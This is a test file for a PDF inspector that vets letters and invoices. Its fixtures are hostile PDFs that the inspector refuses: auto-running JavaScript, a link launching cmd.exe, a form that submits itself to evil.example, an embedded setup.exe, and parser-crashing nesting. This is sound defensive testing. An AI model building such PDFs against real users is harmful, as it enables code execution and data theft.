import { afterAll, describe, expect, test } from 'vitest'
import { createEngine } from '../engine/engine.ts'
import { madeKind } from '../made/kinds/index.ts'
import { sampleBill } from '../made/kinds/samples.fixtures.ts'
import { writeLetter } from '../made/write-letter.ts'
import { handmadePdf } from '../testing/hostile-pdf.fixtures.ts'
import { readingText } from '../blocks.ts'
import { inspectPdf } from './inspect-pdf.ts'
import { inspectPool } from './inspect-pool.ts'

const pool = inspectPool(1)
afterAll(() => pool.stop())

test('a plain letter is taken, with its pages and its text', async () => {
  const inspected = await inspectPdf(handmadePdf())
  expect(inspected).toMatchObject({ ok: true, pages: 1 })
  expect(inspected.ok && readingText(inspected.reading)).toContain('Ihre Rechnung liegt bei.')
})

test('our own letters pass, and their text is found again', async () => {
  const sheet = writeLetter(
    madeKind('paying.bill') as never,
    sampleBill('R-7', 100),
    {
      name: 'Erika',
      customerNumber: '1',
      language: 'de',
      recipient: ['Erika Musterfrau'],
      day: Temporal.PlainDate.from('2026-11-22'),
    },
    {
      name: 'Stadtwerke',
      colour: '#0b6e99',
      form: 'sie',
      portal: 'https://k.example',
      phone: '1',
      returnLine: 'x',
      foot: [['x']],
    },
  )
  const inspected = await inspectPdf(createEngine().draw(sheet).pdf)
  expect(inspected).toMatchObject({ ok: true, pages: 2 })
  expect(inspected.ok && readingText(inspected.reading)).toContain('So setzt sich der Betrag zusammen')
})

test.each([
  ['text instead of a file', Buffer.from('Sehr geehrte Damen und Herren'), 'not-a-pdf'],
  ['nothing', Buffer.alloc(0), 'not-a-pdf'],
  ['a beginning only', handmadePdf().subarray(0, 300), 'broken'],
  [
    'a script that opens with the file',
    handmadePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
    'script',
  ],
  [
    'a script among the names',
    handmadePdf({
      catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
      objects: ['<< /S /JavaScript /JS (1) >>'],
    }),
    'script',
  ],
  ['a script on a page', handmadePdf({ page: '/AA << /O << /S /JavaScript /JS (1) >> >>' }), 'script'],
  ['a form with its own program', handmadePdf({ catalog: '/AcroForm << /XFA (x) /Fields [] >>' }), 'script'],
  [
    'a link that starts a program',
    handmadePdf({
      page: '/Annots [6 0 R]',
      objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>'],
    }),
    'launch',
  ],
  [
    'a form that sends itself away',
    handmadePdf({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
    'launch',
  ],
  [
    'a program inside',
    handmadePdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>', '<< /Length 1 >>\nstream\nx\nendstream'],
    }),
    'embedded-file',
  ],
  [
    'a password',
    handmadePdf({
      trailer:
        '/Encrypt << /Filter /Standard /V 1 /R 2 /O (0123456789012345678901234567890a) /U (0123456789012345678901234567890b) /P -4 >> /ID [(a) (b)]',
    }),
    'encrypted',
  ],
  ['letter format of another country', handmadePdf({ box: '0 0 612 792' }), 'wrong-page-size'],
  ['a page on its side', handmadePdf({ page: '/Rotate 90' }), 'wrong-page-size'],
  ['too many bytes', Buffer.concat([handmadePdf(), Buffer.alloc(10 * 1_048_576)]), 'too-large'],
])('%s is refused, in the process of its own, too', async (_what, bytes, reason) => {
  expect(await inspectPdf(bytes)).toEqual({ ok: false, reason })
  expect(await pool.inspect(bytes)).toEqual({ ok: false, reason })
})

test('the XML of an invoice inside is fine', async () => {
  const withXml = handmadePdf({
    catalog: '/AF [6 0 R]',
    objects: [
      '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 7 0 R >> >>',
      '<< /Length 4 >>\nstream\n<a/>\nendstream',
    ],
  })
  expect(await inspectPdf(withXml)).toMatchObject({ ok: true })
})

describe('what would hold or kill the house', () => {
  test('objects that point at each other in a circle end', async () => {
    const circle = handmadePdf({ catalog: '/Loop 6 0 R', objects: ['<< /Next 7 0 R >>', '<< /Next 6 0 R >>'] })
    expect(await inspectPdf(circle)).toMatchObject({ ok: true })
  })

  test('a nesting without end is refused', async () => {
    const deep = handmadePdf({ catalog: `/Deep ${'<< /D '.repeat(400)}1${' >>'.repeat(400)}` })
    const { ok } = await pool.inspect(deep)
    expect(ok).toBe(false)
  })

  test('after a killed process the next file is looked at as if nothing had been', async () => {
    expect(await pool.inspect(handmadePdf())).toMatchObject({ ok: true })
  })
})
